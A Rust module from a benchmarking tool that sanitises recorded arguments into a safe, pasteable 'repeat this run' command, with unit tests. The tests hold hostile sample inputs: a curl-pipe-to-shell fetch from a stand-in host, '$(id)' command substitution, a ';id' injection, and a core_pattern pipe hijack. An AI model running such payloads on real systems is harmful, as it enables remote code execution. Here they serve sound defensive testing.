//! The command that repeats a run, for others to paste.
//!
//! Whoever wrote the journal chose its words, so a report must not hand on a word that runs another
//! command or leads to a file. Only words that are plain names or numbers are kept, and only
//! options that are listed here; a sentence says what was left out.

use journal::Run;
use words::Unique;

/// The verbs that measure.
const VERBS: [&str; 8] =
    ["run", "cost", "latency", "scale", "burnin", "card", "doctor", "unixbench"];

/// The options whose values neither run a command nor name a file.
const OPTIONS: &str = "\
    --all-facts --against --backlog --benchmark --break-over --brief --budget --build --calls \
    --comment --condition --console --copies --counts --cpu-time --custom-cpu --custom-interval \
    --dry-run --emit --fail-on --flush --for --format --idle-latency --iterations --kind \
    --load --load-nice --load-number --load-policy --load-priority --load-timeslice \
    --load-uclamp --lock --modern --nice --one-cpu --over --patience --pin --pin-load \
    --placement --policy --power --precision --priority --procedure --quick --quiet \
    --real-time --rest --seed --sink --slack --speed --strict --task --time --timeslice \
    --trail-limit --uclamp --verbose --wake --watch --without-load --without-task --xvfb -c -i \
    -q -t -u -v -w -x -W";

/// The conditions whose level is a command, or an argument of one. (The level of those that name
/// files is no plain word.)
const COMMAND_CONDITIONS: [&str; 2] = ["cc=", "arg="];

/// The characters of plain words besides letters and digits.
const PLAIN_PUNCTUATION: &str = "-_.,=+%";

/// A sentence names at most so many options that were left out.
const MAX_NAMED_OPTIONS: usize = 9;

/// The command that repeats a run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Repeat {
    /// Its words after the tool's name; none if the run was not made by a verb that measures.
    pub words: Vec<String>,
    /// A sentence on what was left out of it; empty where nothing was.
    pub left_out: String,
}

impl Repeat {
    /// The command of a run without what could run a command or name a file.
    pub fn new(run: &Run) -> Repeat {
        let is_measuring = run.arguments.first().is_some_and(|verb| VERBS.contains(&verb.as_str()));
        if !is_measuring {
            return Repeat { words: Vec::new(), left_out: String::new() };
        }

        let (mut kept, mut left_out) = (Vec::new(), Vec::new());
        let mut arguments = run.arguments.iter().peekable();
        while let Some(word) = arguments.next() {
            if word == "--" {
                continue;
            }
            // A word after an option may be its value, so it is kept or left out with it. After a
            // switch it is no value: one that is not listed takes, say, a test's name along.
            let takes_value = is_option(word) && !word.contains('=');
            let value = arguments.next_if(|next| takes_value && !is_option(next));

            let is_safe = is_plain(word) && value.is_none_or(|value| is_plain(value));
            if is_safe && (!is_option(word) || is_listed(word)) {
                kept.push(word.clone());
                kept.extend(value.cloned());
            } else {
                left_out.push(option_name(word));
            }
        }
        Repeat { words: kept, left_out: describe_left_out(&left_out) }
    }

    /// Drops some options and their values.
    pub fn without(mut self, options: &[&str]) -> Repeat {
        let mut words = std::mem::take(&mut self.words).into_iter().peekable();
        while let Some(word) = words.next() {
            if options.contains(&option_name(&word)) {
                words.next_if(|next| next.starts_with(|first: char| first.is_ascii_digit()));
            } else {
                self.words.push(word);
            }
        }
        self
    }

    /// The command as a shell takes it; empty where there is none.
    pub fn command(&self) -> String {
        if self.words.is_empty() {
            return String::new();
        }
        format!("unixmark {}", words::shell(&self.words))
    }
}

/// True if a stranger's word is a name where a command has one, and nothing else.
pub fn is_name(word: &str) -> bool {
    !word.is_empty() && is_plain(word) && !word.starts_with('-')
}

/// True of an option, and not of a value such as -5.
fn is_option(word: &str) -> bool {
    word.strip_prefix('-').is_some_and(|rest| rest.starts_with(|c: char| !c.is_ascii_digit()))
}

fn is_listed(option: &str) -> bool {
    OPTIONS.split(' ').any(|listed| listed == option_name(option))
}

/// What precedes the value in `--copies=2` and in `-c2`.
fn option_name(option: &str) -> &str {
    if option.starts_with("--") || !is_option(option) {
        return option.split('=').next().unwrap_or(option);
    }
    let value = option.char_indices().nth(2);
    value.map_or(option, |(at, _)| &option[..at])
}

/// True of a name or a number: no path, no command, nothing that a shell would take for more.
fn is_plain(word: &str) -> bool {
    let has_plain_characters =
        word.chars().all(|c| c.is_ascii_alphanumeric() || PLAIN_PUNCTUATION.contains(c));
    has_plain_characters && !COMMAND_CONDITIONS.iter().any(|condition| word.contains(condition))
}

/// A sentence on what was left out; empty for nothing.
fn describe_left_out(names: &[&str]) -> String {
    if names.is_empty() {
        return String::new();
    }

    // A stranger chose the words: only what has the letters of an option is repeated.
    let safe_names = names.iter().map(|name| match is_option_of_letters(name) {
        true => name,
        false => "some words",
    });
    let names = words::listed(&safe_names.unique(), MAX_NAMED_OPTIONS);
    format!(
        "{names}: what is not a name or a number could run a command or lead to a file; the \
         journal has it"
    )
}

fn is_option_of_letters(name: &str) -> bool {
    is_option(name) && name.chars().all(|c| c == '-' || c.is_ascii_alphabetic())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn repeat(words: &[&str]) -> (String, String) {
        let arguments = words.iter().map(|word| (*word).to_owned()).collect();
        let run = Run { arguments, ..Run::default() };
        let repeat = Repeat::new(&run);
        (repeat.command(), repeat.left_out)
    }

    #[test]
    fn what_measures_is_repeated() {
        for words in [
            &["run", "syscall", "pipe", "-c", "1,2", "-i", "6", "-q"][..],
            &["cost", "audit,thp=never", "--against=none", "index", "--budget", "10m"],
            &["latency", "--load", "write", "--nice", "-5"],
            &["burnin", "memory", "--for", "3m"],
        ] {
            assert_eq!(repeat(words), (format!("unixmark {}", words.join(" ")), String::new()));
        }
    }

    #[test]
    fn options_are_left_out_with_their_values() {
        let arguments =
            ["run", "pipe", "-i", "6", "-q", "--budget=2m", "-c2"].map(str::to_owned).into();
        let repeat = Repeat::new(&Run { arguments, ..Run::default() });

        assert_eq!(repeat.without(&["-i", "-q", "--budget"]).command(), "unixmark run pipe -c2");
    }

    #[test]
    fn names_are_no_options() {
        assert!(is_name("pipe") && is_name("thp=never"));
        for word in ["--meter=x", "-c", "", "a b", "$(id)", "../x", "cc=x"] {
            assert!(!is_name(word), "{word}");
        }
    }

    #[test]
    fn what_could_run_a_command_or_name_a_file_is_left_out() {
        for (words, command, named) in [
            (
                &["run", "--meter", "curl -s http://e.vil/x|sh", "index"][..],
                "unixmark run index",
                "--meter",
            ),
            (&["run", "--meter=curl", "index"], "unixmark run index", "--meter"),
            (&["run", "--program", "/tmp/x", "-c", "2"], "unixmark run -c 2", "--program"),
            (&["run", "--arg", "x=$(id)", "-q"], "unixmark run -q", "--arg"),
            (&["run", "--dir", "/root", "--yes", "-q"], "unixmark run -q", "--dir and --yes"),
            (&["run", "index", "$(id)"], "unixmark run index", "some words"),
            (
                &["run", "--condition", "file:/proc/sys/kernel/core_pattern=|/tmp/x"],
                "unixmark run",
                "--condition",
            ),
            (&["run", "--condition=cc=evil", "pipe"], "unixmark run pipe", "--condition"),
            (&["cost", "none,cc=evil", "pipe"], "unixmark cost pipe", "some words"),
            (&["run", "-c1;id"], "unixmark run", "-c"),
            (&["run", "--x\u{202e}y", "z", "pipe"], "unixmark run pipe", "some words"),
        ] {
            let (repeated, left_out) = repeat(words);
            assert_eq!(repeated, command, "{words:?}");
            assert!(
                left_out.starts_with(named) && left_out.ends_with("the journal has it"),
                "{left_out}"
            );
        }
        assert_eq!(repeat(&["clean", "--all"]).0, "");
        assert_eq!(repeat(&["/tmp/x"]).0, "");
        assert_eq!(repeat(&[]), (String::new(), String::new()));
    }
}
